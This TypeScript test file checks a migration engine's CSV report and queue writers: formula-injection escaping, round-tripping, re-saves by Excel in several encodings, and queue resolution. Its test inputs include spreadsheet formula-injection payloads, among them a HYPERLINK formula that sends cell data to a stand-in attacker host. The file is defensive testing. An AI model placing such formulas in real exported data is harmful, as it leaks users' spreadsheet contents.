import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { RowReportWriter } from '../../../engine/util/row-report-writer.js';
import { QueueWriter, readQueues, queuePath, resolutionKey } from '../../../engine/run/queue-resolutions.js';
import type { QueueRow } from '../../../engine/run/queue-resolutions.js';
import { InputError } from '../../../engine/util/input-error.js';
import { readSpreadsheetCsv } from '../../../engine/util/spreadsheet-csv.js';

/** Values a spreadsheet would run as formulas or change when saving back, signed amounts it keeps exactly, and typed quotes. */
const HOSTILE = ['=1+2', '+44 20 7946 0000', '+7', '-5+3', '-A1', '-1,234.50', '-007', '-2.50', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '=HYPERLINK("http://evil.example/?"&A1)'];
/** Negative numbers a spreadsheet reads as numbers and saves back exactly as written. */
const SIGNED_NUMBERS = ['-5', '-1234.5', '-0.25'];
const VALUES = [...HOSTILE, ...SIGNED_NUMBERS, "'quoted by a person", "''twice", 'plain value', ''];

function queueRow(value: string, i: number): QueueRow {
  return { file: 'contacts.csv', line: i + 2, load: 'contacts', source_key: value, column: 'Company ID', value, reason: `no company ${value}`, resolution: value };
}

async function writeQueue(dir: string, values: readonly string[]): Promise<void> {
  const writer = new QueueWriter(dir, 'orphans', new Map());
  values.forEach((v, i) => writer.write(queueRow(v, i)));
  await writer.close();
}

describe('CSVs written for people', () => {
  it('given cells starting with =, +, -, @, tab or CR, writes each with a leading quote so a spreadsheet shows text', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'report-')), 'exceptions.csv');
    const writer = new RowReportWriter<{ line: number; value: string }>(path, ['line', 'value']);
    VALUES.forEach((value, i) => writer.write({ line: -i, value }));
    await writer.close();
    const raw = readSpreadsheetCsvRaw(path);
    expect(raw).toHaveLength(VALUES.length);
    expect(raw.map((r) => r.value)).toEqual([...HOSTILE.map((v) => `'${v}`), ...SIGNED_NUMBERS, "''quoted by a person", "'''twice", 'plain value', '']);
    // Numbers are ours (line numbers), not the customer's: written as numbers.
    expect(raw.map((r) => r.line)).toEqual(VALUES.map((_, i) => String(-i)));
  });

  it('given cells with commas, quotes, line breaks and accents, writes the bytes csv-stringify would, and they parse back to the same cells', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'report-')), 'success.csv');
    const tricky = ['Smith, Jones & Co', 'the "Big" deal', 'line one\nline two', 'ends in CR\r', 'CRLF\r\ninside', 'Zoë Müller — 北京', '"', ',', ''];
    const writer = new RowReportWriter<{ line: number; value: string; note: string }>(path, ['line', 'value', 'note']);
    tricky.forEach((value, i) => writer.write({ line: i + 2, value, note: `row ${i}` }));
    await writer.close();
    const text = readFileSync(path, 'utf8');
    expect(text).toBe(stringify(tricky.map((value, i) => [i + 2, value, `row ${i}`]), { header: true, columns: ['line', 'value', 'note'] }));
    expect(readSpreadsheetCsvRaw(path).map((r) => r['value'])).toEqual(tricky);
  });

  it('given a queue written and read back, every value comes back exactly, leading quotes included', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'queue-'));
    await writeQueue(dir, VALUES);
    const read = queueFile(dir, 'orphans');
    expect(read).toHaveLength(VALUES.length);
    expect(read.map((r) => r['value'])).toEqual(VALUES);
    expect(read.map((r) => r['source_key'])).toEqual(VALUES);
    const { answered, resolutions } = readQueues(dir);
    // The blank answer leaves its row held: it is neither an answer nor kept as one.
    expect(resolutions.size).toBe(VALUES.length - 1);
    expect(answered.get('orphans')?.map((r) => r['value'])).toEqual(VALUES.filter((v) => v !== ''));
  });
});

describe('queue files saved again by a spreadsheet', () => {
  /** What Excel writes on "Save as CSV" in a European locale: `;` between cells, CRLF, and the chosen encoding. */
  function excelSave(dir: string, encode: (text: string) => Buffer): void {
    // Excel keeps the cells as it shows them: with the quote our writer added.
    const read = readSpreadsheetCsvRaw(queuePath(dir, 'orphans'));
    const header = 'file;line;load;source_key;column;value;reason;resolution';
    const cell = (v: string): string => (/[;"\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);
    const lines = read.map((r, i) => [r['file'], r['line'], r['load'], r['source_key'], r['column'], r['value'], r['reason'], i === 0 ? 'Café Müller €' : r['resolution']].map((v) => cell(v ?? '')).join(';'));
    writeFileSync(queuePath(dir, 'orphans'), encode([header, ...lines].join('\r\n') + '\r\n'));
  }

  it.each([
    ['Windows-1252', (text: string) => iconv.encode(text, 'windows-1252')],
    ['UTF-8 with BOM', (text: string) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')])],
    ['UTF-16 (Unicode Text)', (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')])],
  ])('given a ;-separated file in %s, reads every row, the answers and the accented answer exactly', async (_name, encode) => {
    const dir = mkdtempSync(join(tmpdir(), 'queue-excel-'));
    const values = ['=1+2', '-5', '@x', "'kept", 'Zoë & Søn'];
    await writeQueue(dir, values);
    excelSave(dir, encode);
    const { answered, resolutions } = readQueues(dir);
    const read = answered.get('orphans') ?? [];
    expect(read.map((r) => r['value'])).toEqual(values);
    expect(read[0]?.['resolution']).toBe('Café Müller €');
    expect(resolutions.get(['contacts', '=1+2', 'Company ID'].join('\u0000'))).toBe('Café Müller €');
    expect(resolutions.get(['contacts', "'kept", 'Company ID'].join('\u0000'))).toBe("'kept");
  });
});

describe('a queue file a person broke', () => {
  it('given an unterminated quote, says which queue file and line to fix instead of crashing', () => {
    const dir = mkdtempSync(join(tmpdir(), 'queue-broken-'));
    mkdirSync(join(dir, 'queues'));
    writeFileSync(queuePath(dir, 'orphans'), 'file,line,load,source_key,column,value,reason,resolution\ncontacts.csv,2,contacts,1,Company ID,9,no company,"100\n');
    let error: unknown;
    try {
      readQueues(dir);
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(InputError);
    expect((error as InputError).describe()).toMatch(/^queues\/orphans\.csv:2: the queue file cannot be read: .*Fix that line/);
  });
});

describe('the orphan queue of a rerun', () => {
  it('given answers that worked and one that did not, keeps the first once each and holds the other once', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'orphans-rerun-'));
    const row = (value: string, resolution: string): QueueRow => ({ ...queueRow(value, ['A', 'B', 'C', 'D'].indexOf(value)), resolution });
    const first = new QueueWriter(dir, 'orphans', new Map());
    [row('A', '100'), row('B', '200'), row('C', '')].forEach((r) => first.write(r));
    await first.close();
    const { answered, resolutions } = readQueues(dir);
    expect(resolutions.size).toBe(2);
    expect(answered.get('orphans')?.map((r) => r['source_key'])).toEqual(['A', 'B']);

    // The rerun holds A again (its answer named nothing), C (still unanswered) and a new row D; B's answer worked.
    const next = new QueueWriter(dir, 'orphans', resolutions);
    [row('A', ''), row('C', ''), row('D', '')].forEach((r) => next.write(r));
    next.keepResolved(answered.get('orphans') ?? []);
    await next.close();
    const after = queueFile(dir, 'orphans');
    expect(after.map((r) => [r['source_key'], r['resolution']])).toEqual([['A', ''], ['C', ''], ['D', ''], ['B', '200']]);
    // Only answered cells are remembered, not every row held: the unanswered C and D cost no memory.
    expect(next.held).toEqual(new Set([resolutionKey('contacts', 'A', 'Company ID')]));
  });
});

describe('the owner queue', () => {
  it('given 5 records of one unknown owner and 2 of another over two loads, writes one row per owner with their counts', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'owners-'));
    const writer = new QueueWriter(dir, 'owners', new Map());
    const held = [
      ...Array.from({ length: 3 }, (_, i) => ({ load: 'contacts', file: 'contacts.csv', line: i + 2, owner: 'Jo Blogs' })),
      ...Array.from({ length: 2 }, (_, i) => ({ load: 'opportunities', file: 'deals.csv', line: i + 5, owner: 'jo blogs ' })),
      ...Array.from({ length: 2 }, (_, i) => ({ load: 'contacts', file: 'contacts.csv', line: i + 9, owner: '=evil()' })),
    ];
    held.forEach((h, i) => writer.write({ file: h.file, line: h.line, load: h.load, source_key: String(i), column: 'Owner', value: h.owner, reason: `no destination user matches ${h.owner}`, resolution: '' }));
    await writer.close();
    expect(writer.rows).toBe(2);

    const text = readFileSync(queuePath(dir, 'owners'), 'utf8');
    expect(text.split('\n')[0]).toBe('owner,records,loads,first_row,reason,resolution');
    const rows = queueFile(dir, 'owners');
    expect(rows.map((r) => [r['owner'], r['records'], r['loads'], r['first_row']])).toEqual([
      ['Jo Blogs', '5', 'contacts: 3; opportunities: 2', 'contacts.csv:2'],
      ['=evil()', '2', 'contacts: 2', 'contacts.csv:9'],
    ]);
    expect(text).toContain("'=evil()");
  });

  it('given an answer on an owner row, resolves every record of that owner, in any load, and keeps the answer when the owner is no longer held', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'owners-answer-'));
    const first = new QueueWriter(dir, 'owners', new Map());
    first.write({ file: 'contacts.csv', line: 2, load: 'contacts', source_key: '1', column: 'Owner', value: 'Jo Blogs', reason: 'unknown', resolution: '' });
    await first.close();
    const text = readFileSync(queuePath(dir, 'owners'), 'utf8').replace(/,$/m, ',jo@northwind.example');
    writeFileSync(queuePath(dir, 'owners'), text);

    const { answered, resolutions } = readQueues(dir);
    expect([...resolutions]).toEqual([['owner\u0000jo blogs', 'jo@northwind.example']]);
    const next = new QueueWriter(dir, 'owners', resolutions);
    next.keepResolved(answered.get('owners') ?? []);
    await next.close();
    expect(queueFile(dir, 'owners').map((r) => [r['owner'], r['resolution']])).toEqual([['Jo Blogs', 'jo@northwind.example']]);
  });
});

/** Every row of a queue file, as the engine reads its cells (readQueues keeps only the answered ones). */
function queueFile(dir: string, queue: 'orphans' | 'owners'): Record<string, string>[] {
  return readSpreadsheetCsv(queuePath(dir, queue));
}

function readSpreadsheetCsvRaw(path: string): Record<string, string>[] {
  // The cells as a spreadsheet sees them: CSV quoting undone, no leading quote removed.
  return parse(readFileSync(path), { columns: true }) as Record<string, string>[];
}
